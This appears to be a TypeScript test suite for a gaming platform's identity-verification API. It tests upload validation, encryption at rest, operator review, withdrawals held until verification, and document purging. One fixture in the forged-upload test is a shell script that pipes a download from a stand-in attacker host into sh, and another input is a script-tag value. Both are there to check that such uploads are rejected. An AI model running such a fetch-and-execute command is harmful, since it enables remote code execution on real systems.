import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { KYC_OPS_PATHS, KYC_PATHS, MONEY_OPS_PATHS, MONEY_PATHS } from '@lobby/contract';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InjectResult } from './helpers/accounts.ts';
import { get, newPlayer, ops, outcome, paidDeposit, path as fill, readyToWithdraw, trialToken, valueOf, withdraw } from './helpers/money-api.ts';
import { createTestApp } from './helpers/test-app.ts';
import type { TestApp } from './helpers/test-app.ts';
import { multipart } from './helpers/multipart.ts';
import type { Part } from './helpers/multipart.ts';

/**
 * Identity verification through the API: levels and the brand's rules, uploads checked by content (a script
 * renamed .jpg, a 50 MB file, a thumbnail refused; EXIF removed; encrypted at rest), the checker's rules, the
 * operators' queue (decided once, audited), a withdrawal above the level-2 amount held until verified, level 3
 * after large deposits, and the documents deleted after the retention period. On SQLite, or PostgreSQL.
 */

let t: TestApp;
let dataDir: string;

beforeAll(async () => {
  t = await createTestApp();
  dataDir = t.app.config.dataDir;
  await t.app.database.db.updateTable('payment_channels').set({ daily_count_limit: 0 }).execute();
});

afterAll(async () => {
  await t?.close();
});

let address = 0;
async function upload(token: string | undefined, kind: string | undefined, data: Buffer | undefined, filename = 'id.jpg'): Promise<InjectResult> {
  const parts: Part[] = [];
  if (kind !== undefined) parts.push({ name: 'kind', value: kind });
  if (data) parts.push({ name: 'file', file: { filename, type: 'image/jpeg', data } });
  const { body, contentType } = multipart(parts);
  address += 1;
  return t.app.inject({
    method: 'POST',
    url: KYC_PATHS.documents,
    headers: { 'content-type': contentType, ...(token ? { authorization: token } : {}) },
    payload: body,
    remoteAddress: `10.88.${(address >> 8) & 255}.${address & 255}`,
  }) as unknown as Promise<InjectResult>;
}

/** A photo of a card: a different picture for each seed, with EXIF (GPS-like text, the camera) attached. */
async function photo(seed: number, width = 800, height = 500, format: 'jpeg' | 'png' = 'jpeg'): Promise<Buffer> {
  const image = sharp({ create: { width, height, channels: 3, background: { r: (seed * 53) % 256, g: (seed * 97) % 256, b: (seed * 31) % 256 } } })
    .composite([{ input: Buffer.from(`<svg width="${width}" height="${height}"><text x="40" y="120" font-size="64">ID ${seed}</text></svg>`), top: 0, left: 0 }])
    .withExif({ IFD0: { Make: 'PhoneMaker', Model: 'SecretPhone 12', ImageDescription: 'home at 14.5995N 120.9842E' } });
  return format === 'jpeg' ? image.jpeg().toBuffer() : image.png().toBuffer();
}

/** A submission from an address of its own (the per-address limit is not what these tests are about). */
function send(url: string, payload: unknown, token: string): Promise<InjectResult> {
  address += 1;
  return t.app.inject({ method: 'POST', url, headers: { authorization: token }, payload: payload as object, remoteAddress: `10.89.${(address >> 8) & 255}.${address & 255}` }) as unknown as Promise<InjectResult>;
}

const state = async (token: string) => valueOf(await get(t.app, KYC_PATHS.state, token));
const docId = async (token: string, kind: string, seed: number) => valueOf<{ id: number }>(await upload(token, kind, await photo(seed))).id;

let seedCounter = 1000;
async function identityDocs(token: string) {
  return { front: await docId(token, 'id_front', seedCounter++), back: await docId(token, 'id_back', seedCounter++), selfie: await docId(token, 'selfie', seedCounter++) };
}

let idCounter = 100000;
function identity(docs: { front: number; back: number; selfie: number }, extra: Record<string, unknown> = {}) {
  return { fullName: 'Juan Dela Cruz', birthDate: '1990-05-17', idType: 'national_id', idNumber: `PSN-${idCounter++}-77`, ...docs, ...extra };
}

/** A member with a verified phone (level 1). */
async function verifiedPlayer(name: string, cents = 0) {
  const p = await newPlayer(t.app, name, cents);
  await t.app.database.db.updateTable('members').set({ mobile_e164: `+63917${String(p.id).padStart(7, '0')}` }).where('id', '=', p.id).execute();
  return p;
}

const decide = (id: number, body: unknown) => ops(t.app, 'POST', fill(KYC_OPS_PATHS.decision, { id }), body);

describe('levels and rules', () => {
  it('a new member is level 0 and is told to verify a phone or e-mail; the brand asks for level 2 above ₱5,000 a day and is 21+', async () => {
    const p = await newPlayer(t.app, 'kyczero');
    expect(await state(p.token)).toMatchObject({
      level: 0,
      next: 'contact',
      withdrawnToday: '0.00',
      currency: 'PHP',
      level2DailyWithdrawal: '5000.00',
      level3Deposits: '500000.00',
      minimumAge: 21,
      heldWithdrawals: 0,
      steps: [
        { level: 1, state: 'needed' },
        { level: 2, state: 'needed', submission: null },
        { level: 3, state: 'optional', submission: null },
      ],
    });
    // identity before a verified contact is refused
    const docs = await identityDocs(p.token);
    expect(outcome(await send(KYC_PATHS.identity, identity(docs), p.token))).toMatchObject({ status: 403, errorCode: 'kyc.level.required' });
    const v = await verifiedPlayer('kycone');
    expect(await state(v.token)).toMatchObject({ level: 1, next: 'identity', steps: [{ level: 1, state: 'done' }, {}, {}] });
  });

  it('operators read and set the rules (audited); bad rules are refused', async () => {
    const url = `${KYC_OPS_PATHS.rules}?merchant=LUCKY`;
    expect(valueOf(await ops(t.app, 'GET', url))).toMatchObject({ merchantCode: 'LUCKY', currency: 'PHP', level2DailyWithdrawal: '5000.00', minimumAge: 21, retentionDays: 1825, autoApprove: false, updatedBy: null });
    const good = { level2DailyWithdrawal: '5000.00', level3Deposits: '500000.00', minimumAge: 21, retentionDays: 1825, autoApprove: false };
    for (const bad of [
      { ...good, minimumAge: 16 },
      { ...good, retentionDays: 10 },
      { ...good, level2DailyWithdrawal: '0.00' },
      { ...good, level2DailyWithdrawal: 'lots' },
      { ...good, extra: 1 },
      { minimumAge: 21 },
    ]) {
      expect(outcome(await ops(t.app, 'PUT', url, bad)).status, JSON.stringify(bad)).toBe(400);
    }
    expect(valueOf(await ops(t.app, 'PUT', url, { ...good, level3Deposits: null }))).toMatchObject({ level3Deposits: null, updatedBy: 'ops-token' });
    expect(valueOf(await ops(t.app, 'PUT', url, good))).toMatchObject({ level3Deposits: '500000.00' });
    const audit = await t.app.database.db.selectFrom('audit_log').select(['action', 'outcome']).where('action', 'like', '%/ops/kyc/rules%').execute();
    expect(audit.filter((a) => a.outcome === 'success').length).toBeGreaterThanOrEqual(2);
  });
});

describe('uploads', () => {
  it('a photo is stored without its EXIF, encrypted, outside the web root; the reviewer gets it back', async () => {
    const p = await verifiedPlayer('kycupload');
    const original = await photo(1);
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const doc = valueOf(await upload(p.token, 'id_front', original));
    expect(doc).toMatchObject({ kind: 'id_front', type: 'jpeg', width: 800, height: 500 });
    // at rest: one sealed file, no JPEG in it, nothing under a web folder
    const row = await t.app.database.db.selectFrom('kyc_documents').selectAll().where('id', '=', doc.id).executeTakeFirstOrThrow();
    const file = path.join(dataDir, 'kyc', `${row.storage_key}.sealed`);
    expect(existsSync(file)).toBe(true);
    const sealed = readFileSync(file);
    expect(sealed.includes(Buffer.from([0xff, 0xd8, 0xff]))).toBe(false);
    expect(sealed.includes(Buffer.from('SecretPhone'))).toBe(false);
    expect(statSync(file).mode & 0o077).toBe(0);
    const served = await ops(t.app, 'GET', fill(KYC_OPS_PATHS.document, { id: doc.id }));
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toContain('no-store');
    const bytes = (served as unknown as { rawPayload: Buffer }).rawPayload;
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    expect(bytes.includes(Buffer.from('SecretPhone'))).toBe(false);
    expect((await sharp(bytes).metadata()).width).toBe(800);
    // each opening is audited
    const audit = await t.app.database.db.selectFrom('audit_log').selectAll().where('action', 'like', '%/ops/kyc/documents/:id%').where('target', 'like', `%"document":${doc.id},%`).execute();
    expect(audit).toHaveLength(1);
    // a PNG and a PDF are taken too
    expect(valueOf(await upload(p.token, 'id_back', await photo(2, 640, 400, 'png'), 'back.png'))).toMatchObject({ type: 'png' });
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
    expect(valueOf(await upload(p.token, 'funds_proof', pdf, 'payslip.pdf'))).toMatchObject({ type: 'pdf', width: null });
  });

  it('refuses forged, oversized, tiny and malformed uploads with a clear error, leaving nothing behind', async () => {
    const p = await verifiedPlayer('kycforged');
    const before = await t.app.database.db.selectFrom('kyc_documents').select('id').where('member_id', '=', p.id).execute();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    expect(outcome(await upload(p.token, 'id_front', script, 'passport.jpg'))).toMatchObject({ status: 415, errorCode: 'kyc.document.invalid' });
    // JPEG's first bytes and then garbage: not a picture
    const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(4096, 7)]);
    expect(outcome(await upload(p.token, 'id_front', fake))).toMatchObject({ status: 415, errorCode: 'kyc.document.invalid' });
    expect(outcome(await upload(p.token, 'id_front', Buffer.from('%PDF-1.4 no end')))).toMatchObject({ status: 415, errorCode: 'kyc.document.invalid' });
    const big = Buffer.alloc(50 * 1024 * 1024, 1);
    (await photo(3)).copy(big);
    expect(outcome(await upload(p.token, 'id_front', big))).toMatchObject({ status: 413, errorCode: 'kyc.document.too.large' });
    expect(outcome(await upload(p.token, 'selfie', await photo(4, 200, 150)))).toMatchObject({ status: 400, errorCode: 'kyc.document.too.small' });
    expect(outcome(await upload(p.token, 'passport', await photo(5)))).toMatchObject({ status: 400, errorCode: 'request.invalid' });
    expect(outcome(await upload(p.token, undefined, await photo(5)))).toMatchObject({ status: 400, errorCode: 'request.invalid' });
    expect(outcome(await upload(p.token, 'id_front', undefined))).toMatchObject({ status: 400, errorCode: 'request.invalid' });
    const json = await t.app.inject({ method: 'POST', url: KYC_PATHS.documents, headers: { authorization: p.token }, payload: { kind: 'id_front' } });
    expect(outcome(json as unknown as InjectResult).status).toBe(415);
    expect(outcome(await upload(undefined, 'id_front', await photo(6))).status).toBe(401);
    expect(outcome(await upload(await trialToken(t.app), 'id_front', await photo(6))).status).toBe(403);
    const after = await t.app.database.db.selectFrom('kyc_documents').select('id').where('member_id', '=', p.id).execute();
    expect(after).toHaveLength(before.length);
  }, 60_000);
});

describe('submissions', () => {
  it('identity waits for an operator, once at a time; bad documents and dates are refused', async () => {
    const p = await verifiedPlayer('kycident');
    const docs = await identityDocs(p.token);
    const other = await verifiedPlayer('kycother');
    const theirs = await docId(other.token, 'id_front', seedCounter++);
    for (const bad of [
      identity({ ...docs, front: theirs }),
      identity({ ...docs, front: docs.back, back: docs.front }),
      identity({ ...docs, selfie: 999_999 }),
    ]) {
      expect(outcome(await send(KYC_PATHS.identity, bad, p.token)), JSON.stringify(bad)).toMatchObject({ status: 404, errorCode: 'kyc.document.not.found' });
    }
    for (const bad of [identity(docs, { birthDate: '2999-01-01' }), identity(docs, { birthDate: '1990-02-30' }), identity(docs, { idType: 'library_card' }), identity(docs, { fullName: '' }), identity(docs, { idNumber: '<script>' })]) {
      expect(outcome(await send(KYC_PATHS.identity, bad, p.token)).status, JSON.stringify(bad)).toBe(400);
    }
    // two sent at once: one waits, the other is told so
    const again = await identityDocs(p.token);
    const [a, b] = await Promise.all([send(KYC_PATHS.identity, identity(docs), p.token), send(KYC_PATHS.identity, identity(again), p.token)]);
    const answers = [outcome(a), outcome(b)].sort((x, y) => x.status - y.status);
    expect(answers[0]).toMatchObject({ status: 200, value: { level: 2, status: 'pending', reason: null } });
    expect(answers[1]).toMatchObject({ status: 409, errorCode: 'kyc.submission.pending' });
    expect(await state(p.token)).toMatchObject({ level: 1, next: 'wait', steps: [{}, { state: 'pending' }, {}] });
    const pending = await t.app.database.db.selectFrom('kyc_submissions').selectAll().where('member_id', '=', p.id).execute();
    expect(pending).toHaveLength(1);
    // what the player typed is sealed at rest; the ID number is looked up by a keyed digest, never in the clear
    const row = pending[0]!;
    for (const v of [row.full_name, row.birth_date, row.id_number]) expect(v).toMatch(/^sb1\./);
    expect(JSON.stringify(row)).not.toContain('Juan Dela Cruz');
    expect(JSON.stringify(row)).not.toContain('1990-05-17');
    expect(row.id_number_key).not.toContain('PSN');
    const view = valueOf(await ops(t.app, 'GET', fill(KYC_OPS_PATHS.submission, { id: row.id })));
    expect(view).toMatchObject({ fullName: 'Juan Dela Cruz', birthDate: '1990-05-17', idType: 'national_id' });
    expect(view.idNumber).toMatch(/^PSN-\d+-77$/);
  });

  it('the checker rejects at once: under the brand\'s minimum age, the same picture twice, an ID number of another account', async () => {
    const young = await verifiedPlayer('kycyoung');
    const today = new Date(t.app.clock() + 8 * 3600_000).toISOString().slice(0, 10);
    const twenty = `${Number(today.slice(0, 4)) - 20}${today.slice(4)}`;
    const s1 = valueOf(await send(KYC_PATHS.identity, identity(await identityDocs(young.token), { birthDate: twenty }), young.token));
    expect(s1).toMatchObject({ status: 'rejected', reason: 'underage' });
    expect(await state(young.token)).toMatchObject({ level: 1, next: 'identity', steps: [{}, { state: 'rejected', submission: { reason: 'underage' } }, {}] });

    const twice = await verifiedPlayer('kyctwice');
    const same = await photo(77);
    const front = valueOf(await upload(twice.token, 'id_front', same)).id;
    const back = valueOf(await upload(twice.token, 'id_back', same)).id;
    const selfie = await docId(twice.token, 'selfie', seedCounter++);
    expect(valueOf(await send(KYC_PATHS.identity, identity({ front, back, selfie }), twice.token))).toMatchObject({ status: 'rejected', reason: 'duplicate' });

    const first = await verifiedPlayer('kycfirst');
    const number = 'N01-123-456789';
    expect(valueOf(await send(KYC_PATHS.identity, identity(await identityDocs(first.token), { idNumber: number }), first.token))).toMatchObject({ status: 'pending' });
    const copy = await verifiedPlayer('kyccopy');
    expect(valueOf(await send(KYC_PATHS.identity, identity(await identityDocs(copy.token), { idNumber: 'n01 123 456789' }), copy.token))).toMatchObject({ status: 'rejected', reason: 'duplicate' });
    const detail = valueOf(await ops(t.app, 'GET', `${KYC_OPS_PATHS.submissions}?merchant=LUCKY&status=rejected&account=${copy.username}`)).list[0];
    expect(detail.check).toMatchObject({ provider: 'local-rules', verdict: 'reject' });
    expect(detail.check.findings.join(' ')).toContain('another account');
    expect(detail.decidedBy).toBe('checker:local-rules');
  });
});

describe('withdrawals held until verified', () => {
  it('above ₱5,000 a day the withdrawal is held; the operator approves the identity and the withdrawal is paid', async () => {
    const p = await verifiedPlayer('kycwithdraw', 2_000_000);
    const { accountId, channelId } = await readyToWithdraw(t.app, p);
    // ₱3,000 passes (under the day's ₱5,000), ₱2,500 more makes ₱5,500: held
    const small = valueOf(await withdraw(t.app, p.token, { channelId, payoutAccountId: accountId, amount: 3000 }));
    expect(small).toMatchObject({ status: 'pending', heldFor: null });
    const held = valueOf(await withdraw(t.app, p.token, { channelId, payoutAccountId: accountId, amount: 2500 }));
    expect(held).toMatchObject({ status: 'pending', heldFor: 'kyc' });
    expect(await state(p.token)).toMatchObject({ heldWithdrawals: 1, withdrawnToday: '5500.00', next: 'identity', steps: [{}, { state: 'needed' }, {}] });
    // the operator cannot pay it out yet
    expect(outcome(await ops(t.app, 'POST', fill(MONEY_OPS_PATHS.approveWithdrawal, { orderNo: held.orderNo })))).toMatchObject({ status: 409, errorCode: 'withdraw.order.held' });
    const list = valueOf(await get(t.app, MONEY_PATHS.withdrawOrders, p.token));
    expect(list.list.find((o: { orderNo: string }) => o.orderNo === held.orderNo)).toMatchObject({ heldFor: 'kyc' });

    const submission = valueOf(await send(KYC_PATHS.identity, identity(await identityDocs(p.token)), p.token));
    const queue = valueOf(await ops(t.app, 'GET', `${KYC_OPS_PATHS.submissions}?merchant=LUCKY`));
    const mine = queue.list.find((s: { id: number }) => s.id === submission.id);
    expect(mine).toMatchObject({ account: p.username, memberLevel: 1, level: 2, status: 'pending', fullName: 'Juan Dela Cruz', birthDate: '1990-05-17', idType: 'national_id' });
    expect(mine.documents.map((d: { kind: string }) => d.kind).sort()).toEqual(['id_back', 'id_front', 'selfie']);
    expect(mine.age).toBeGreaterThanOrEqual(36);
    // the reviewer sees what waits on the decision
    expect(mine.heldWithdrawals).toEqual({ count: 1, total: '2500.00' });
    // oldest first
    const ids = queue.list.map((s: { id: number }) => s.id);
    expect(ids).toEqual([...ids].sort((x: number, y: number) => x - y));

    expect(outcome(await decide(submission.id, { decision: 'reject' }))).toMatchObject({ status: 400, errorCode: 'kyc.reason.required' });
    expect(outcome(await decide(submission.id, { decision: 'maybe' })).status).toBe(400);
    expect(outcome(await decide(999_999, { decision: 'approve' }))).toMatchObject({ status: 404, errorCode: 'kyc.submission.not.found' });
    const approved = valueOf(await decide(submission.id, { decision: 'approve', note: 'ID and selfie match' }));
    expect(approved).toMatchObject({ status: 'approved', decidedBy: 'ops-token', memberLevel: 2, note: 'ID and selfie match' });
    expect(outcome(await decide(submission.id, { decision: 'reject', reason: 'other' }))).toMatchObject({ status: 409, errorCode: 'kyc.submission.decided' });
    expect(await state(p.token)).toMatchObject({ level: 2, heldWithdrawals: 0, next: null, steps: [{}, { state: 'done' }, {}] });

    // released: the operator pays it out
    const paid = valueOf(await ops(t.app, 'POST', fill(MONEY_OPS_PATHS.approveWithdrawal, { orderNo: held.orderNo })));
    expect(paid.status).toBe('paid');
    // a verified member's large withdrawal is not held
    expect(valueOf(await withdraw(t.app, p.token, { channelId, payoutAccountId: accountId, amount: 6000 }))).toMatchObject({ heldFor: null });
    const inbox = await t.app.database.db.selectFrom('inbox_messages').select(['title']).where('member_id', '=', p.id).execute();
    expect(inbox.map((m) => m.title)).toContain('Verification approved');
    const audit = await t.app.database.db.selectFrom('audit_log').selectAll().where('action', 'like', '%/ops/kyc/submissions/:id/decision%').where('target', 'like', `%"submission":${submission.id},%`).execute();
    expect(audit.map((a) => a.outcome)).toEqual(['success']);
    const refused = await t.app.database.db.selectFrom('audit_log').selectAll().where('action', 'like', '%/ops/kyc/submissions/:id/decision%').where('outcome', '=', 'failed').execute();
    expect(refused.length).toBeGreaterThanOrEqual(1);
  });

  it('after deposits above the level 3 amount, a withdrawal waits for the source of funds', async () => {
    const url = `${KYC_OPS_PATHS.rules}?merchant=LUCKY`;
    const rules = valueOf(await ops(t.app, 'GET', url));
    valueOf(await ops(t.app, 'PUT', url, { level2DailyWithdrawal: rules.level2DailyWithdrawal, level3Deposits: '100.00', minimumAge: 21, retentionDays: 1825, autoApprove: true }));
    try {
      const p = await verifiedPlayer('kycfunds', 500_000);
      // level 2 at once: the brand approves what passes the rules
      expect(valueOf(await send(KYC_PATHS.identity, identity(await identityDocs(p.token)), p.token))).toMatchObject({ status: 'approved' });
      await paidDeposit(t.app, p.token, 200);
      const { accountId, channelId } = await readyToWithdraw(t.app, p);
      const held = valueOf(await withdraw(t.app, p.token, { channelId, payoutAccountId: accountId, amount: 300, forfeitBonus: true }));
      expect(held).toMatchObject({ heldFor: 'kyc' });
      expect(await state(p.token)).toMatchObject({ level: 2, next: 'funds', steps: [{}, { state: 'done' }, { state: 'needed' }] });
      const proof = valueOf(await upload(p.token, 'funds_proof', await photo(seedCounter++))).id;
      expect(outcome(await send(KYC_PATHS.funds, { source: 'salary', detail: 'x', proof }, p.token)).status).toBe(400);
      const funds = valueOf(await send(KYC_PATHS.funds, { source: 'salary', detail: 'Nurse at a Manila hospital', proof }, p.token));
      // source of funds is read by a person even when the brand approves identity automatically
      expect(funds).toMatchObject({ level: 3, status: 'pending' });
      expect(await state(p.token)).toMatchObject({ level: 2, next: 'wait', heldWithdrawals: 1 });
      valueOf(await decide(funds.id, { decision: 'approve', note: 'payslips match the deposits' }));
      expect(await state(p.token)).toMatchObject({ level: 3, heldWithdrawals: 0, next: null });
      expect(valueOf(await ops(t.app, 'POST', fill(MONEY_OPS_PATHS.approveWithdrawal, { orderNo: held.orderNo }))).status).toBe('paid');
    } finally {
      valueOf(await ops(t.app, 'PUT', url, { level2DailyWithdrawal: '5000.00', level3Deposits: '500000.00', minimumAge: 21, retentionDays: 1825, autoApprove: false }));
    }
  });
});

describe('retention', () => {
  it('documents of decided submissions are deleted after the retention period, and uploads never sent after a week', async () => {
    const p = await verifiedPlayer('kycpurge');
    const docs = await identityDocs(p.token);
    const sub = valueOf(await send(KYC_PATHS.identity, identity(docs), p.token));
    valueOf(await decide(sub.id, { decision: 'reject', reason: 'unreadable', note: 'blurred' }));
    const unsent = await docId(p.token, 'selfie', seedCounter++);
    const keys = await t.app.database.db.selectFrom('kyc_documents').select(['id', 'storage_key']).where('member_id', '=', p.id).execute();
    const files = keys.map((k) => path.join(dataDir, 'kyc', `${k.storage_key}.sealed`));
    for (const f of files) expect(existsSync(f)).toBe(true);
    // not yet due: nothing goes
    await t.app.services.kyc.purge();
    for (const f of files) expect(existsSync(f)).toBe(true);
    const longAgo = t.app.clock() - 1830 * 86_400_000;
    await t.app.database.db.updateTable('kyc_submissions').set({ decided_at: longAgo }).where('id', '=', sub.id).execute();
    await t.app.database.db.updateTable('kyc_documents').set({ created_at: longAgo }).where('id', '=', unsent).execute();
    expect(await t.app.services.kyc.purge()).toBeGreaterThanOrEqual(4);
    for (const f of files) expect(existsSync(f)).toBe(false);
    const view = valueOf(await ops(t.app, 'GET', fill(KYC_OPS_PATHS.submission, { id: sub.id })));
    expect(view).toMatchObject({ purged: true, status: 'rejected', reason: 'unreadable' });
    expect(outcome(await ops(t.app, 'GET', fill(KYC_OPS_PATHS.document, { id: docs.front })))).toMatchObject({ status: 404, errorCode: 'kyc.document.not.found' });
    expect(readdirSync(path.join(dataDir, 'kyc', 'LUCKY')).length).toBeGreaterThan(0);
  });
});
